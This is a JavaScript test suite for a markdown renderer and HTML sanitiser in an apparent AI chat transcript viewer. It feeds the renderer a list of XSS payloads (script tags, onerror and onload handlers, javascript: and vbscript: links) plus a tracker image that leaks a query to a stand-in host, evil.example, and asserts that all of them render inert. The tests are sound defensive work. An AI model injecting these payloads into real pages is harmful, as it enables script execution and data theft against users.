import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { container, doc } from "./helpers/dom.js";
import { readFileSync } from "node:fs";
import { renderMarkdown, renderMarkdownUnsafe } from "../src/lib/markdown.js";
import { counts, purifyNodes, sanitizeNodes } from "../src/lib/sanitize.js";
import { StreamingMarkdown } from "../src/lib/markdown-stream.js";
import { TranscriptStore } from "../src/lib/store.js";
import { createStreamView } from "../src/lib/view.js";

const ATTACKS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[y](JAVASCRIPT:alert(1)) [z]( javascript:alert(1) ) [w](data:text/html,<script>alert(1)</script>)",
  "![pic](javascript:alert(1)) ![tracker](https://evil.example/leak?q=secret)",
  '<a href="javascript:alert(1)">a</a> <svg onload=alert(1)> <iframe src=x></iframe>',
  "```html\n<img src=x onerror=alert(1)><script>alert(2)</script>\n```",
  "```\" onmouseover=alert(1) x=\"\ncode\n```",
  "[ref][r]\n\n[r]: javascript:alert(1)",
  "`<img src=x onerror=alert(1)>` inline",
  "[rel](page.html) [frag](#top) [vb](vbscript:msgbox(1)) [dat](data:,x) [proto](//evil.example/x)",
];
const DOCUMENT = ATTACKS.join("\n\n");

/** No live markup anywhere under `root`: no scripts, no handlers, no dangerous URLs, no images. */
function assertInert(root) {
  assert.equal(root.querySelectorAll("script, iframe, object, embed, svg, img, style, form").length, 0);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      assert.ok(!/^on/i.test(attr.name), `event handler attribute ${attr.name} on <${el.tagName}>`);
      if (attr.name === "href" || attr.name === "src") {
        assert.match(attr.value, /^(https?:|mailto:)/i, `${attr.name}=${attr.value}`);
      }
    }
  }
}

describe("sanitisation", () => {
  it("one-shot markdown never yields live markup", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown(DOCUMENT);
    assertInert(div);
    // The attacks are shown as text, not dropped silently.
    assert.ok(div.textContent.includes("<img src=x onerror=alert(1)>"));
    assert.ok(div.textContent.includes("<script>alert(1)</script>"));
    const code = div.querySelector("code.language-html");
    assert.equal(code?.textContent, "<img src=x onerror=alert(1)><script>alert(2)</script>\n");
  });

  it("keeps attributes that are not addresses: an ordered list starts where the model started it", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown("3. third\n4. fourth\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |");
    assert.equal(div.querySelector("ol")?.getAttribute("start"), "3");
    assert.equal(div.querySelector("th")?.getAttribute("style"), "text-align:right");
    const md = new StreamingMarkdown(doc);
    md.update("3. third\n4. fourth\n", true);
    assert.equal(md.el.querySelector("ol")?.getAttribute("start"), "3");
  });

  it("links go only to web and mail addresses", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown("[a](https://e.org) [b](mailto:x@e.org) [c](page.html) [d](#top) [e](//e.org)");
    const hrefs = [...div.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    assert.deepEqual(hrefs, ["https://e.org", "mailto:x@e.org"]);
    assert.ok(div.textContent.includes("[c](page.html) [d](#top) [e](//e.org)"), "shown as written");
  });

  it("remote images become links, never fetched", () => {
    const div = doc.createElement("div");
    div.innerHTML = renderMarkdown("![tracker](https://evil.example/leak?q=secret)");
    assert.equal(div.querySelector("img"), null);
    assert.equal(div.querySelector("a")?.getAttribute("href"), "https://evil.example/leak?q=secret");
    assert.equal(div.querySelector("a")?.getAttribute("rel"), "noopener noreferrer nofollow");
  });

  it("streaming markdown never yields live markup at any step", () => {
    const md = new StreamingMarkdown(doc);
    for (let i = 1; i <= DOCUMENT.length; i += 9) {
      md.update(DOCUMENT.slice(0, i), false);
      assertInert(md.el);
    }
    md.update(DOCUMENT, true);
    assertInert(md.el);
  });

  it("plain-text fields of every block kind go in as text", () => {
    const evil = '<img src=x onerror="alert(1)"><script>alert(1)</script>';
    const store = new TranscriptStore();
    store.receive({
      type: "state",
      seq: 1,
      meta: { status: "done", model: evil, stop_reason: evil },
      blocks: [
        { id: 0, kind: "text", text: "hi", citations: [{ title: evil, url: "javascript:alert(1)", cited_text: evil }, { title: "ok", url: "https://ok.example/" }] },
        { id: 1, kind: "tool", name: evil, args: evil, fields: {}, output: { stdout: evil, [evil]: evil }, result: evil, status: "error" },
        { id: 2, kind: "tool", name: "t", args: "", fields: { [evil]: evil }, output: {}, result: "", status: "ok" },
        { id: 3, kind: "error", message: evil },
        { id: 4, kind: "notice", level: "warning", text: evil },
        { id: 5, kind: "user", text: evil },
        { id: 6, kind: "refusal", text: evil, category: evil, blocked_input: true, spoken: false },
        { id: 7, kind: evil },
        { id: 8, kind: "image", media_type: evil, size: 3 },
      ],
    });
    const el = container();
    const view = createStreamView({ el, store, send: () => {} });
    view.flush();
    assertInert(el);
    assert.ok(el.textContent.includes(evil));
    const links = [...el.querySelectorAll(".axio-nb-citations a")];
    assert.deepEqual(links.map((a) => a.getAttribute("href")), ["https://ok.example/"]);
    view.destroy();
  });
});

describe("known markup, recognised without DOMPurify (src/lib/known-markup.js)", () => {
  const mixed = JSON.parse(readFileSync(new URL("./fixtures/mixed-seed-3.json", import.meta.url), "utf8")).text;
  const mathCases = JSON.parse(readFileSync(new URL("./fixtures/math-cases.json", import.meta.url), "utf8"));
  const TRICKY = [
    '[t](https://e.org "a </title> b") [u](https://e.org "x --> y") [v](https://e.org "self />")',
    '[w](https://e.org " spaced title ") [x](<https://e.org/a b>) [y](https://e.org/\u00a0z)',
    "0. zero\n1. one\n\n7) seven\n8) eight",
    "| l | c | r | n |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |",
    "```py{onclick=x}\nprint(1)\n```\n\n```\u00a0js\nx\n```\n\n~~~ <b>\ny\n~~~",
    "<!-- comment --> <b>bold</b> &lt;b&gt; &#60;script&#62; <https://e.org> mailto:a@b.c https://e.org/</title>",
  ];
  const DOCS = [...ATTACKS, DOCUMENT, ...TRICKY, mixed, ...mathCases.map((/** @type {any} */ c) => String(c.text))];

  /** @param {Node[]} nodes */
  const html = (nodes) => {
    const div = doc.createElement("div");
    div.append(...nodes);
    return div.innerHTML;
  };

  it("gives exactly DOMPurify's DOM, for every prefix of every document", () => {
    const before = { ...counts };
    let compared = 0;
    for (const text of DOCS) {
      // 12 cut points a document, 16 of the long one (jsdom parses slowly: ~5 ms a comparison).
      const step = Math.ceil(text.length / (text === mixed ? 16 : 12));
      for (let end = 1; end <= text.length; end = end === text.length ? end + 1 : Math.min(text.length, end + step)) {
        const raw = renderMarkdownUnsafe(text.slice(0, end));
        if (!raw) continue;
        assert.equal(html(sanitizeNodes(doc, raw)), html(purifyNodes(doc, raw)), `${JSON.stringify(text.slice(0, end))}`);
        compared++;
      }
    }
    const known = counts.known - before.known;
    const purified = counts.purified - before.purified;
    assert.equal(known + purified, compared);
    // The point of the fast path: the renderer's own markup is the common case.
    assert.ok(known / compared > 0.9, `known ${known}, purified ${purified}`);
  });

  it("hands to DOMPurify whatever it does not know", () => {
    const cases = [
      "<p>a<!-- c --></p>",
      '<p onclick="x">a</p>',
      "<img src=x>",
      '<a href="javascript:alert(1)">a</a>',
      '<a href=" https://e.org">a</a>',
      '<p title="a</title>">a</p>',
      '<ol start="1x"><li>a</li></ol>',
      '<table><tr><td style="color:red">a</td></tr></table>',
      '<span id="x">a</span>',
      "<svg><a>x</a></svg>",
      "<form><input></form>",
      '<button type="submit">a</button>',
    ];
    for (const raw of cases) {
      const before = counts.purified;
      assert.equal(html(sanitizeNodes(doc, raw)), html(purifyNodes(doc, raw)), raw);
      assert.equal(counts.purified, before + 1, `${raw} went the fast way`);
    }
  });

  it("a streamed answer is recognised frame after frame", () => {
    const before = { ...counts };
    const md = new StreamingMarkdown(doc);
    for (let i = 1; i <= mixed.length; i += 331) md.update(mixed.slice(0, i), false);
    md.update(mixed, true);
    assert.equal(counts.purified - before.purified, 0);
    assert.ok(counts.known - before.known > 100);
  });
});
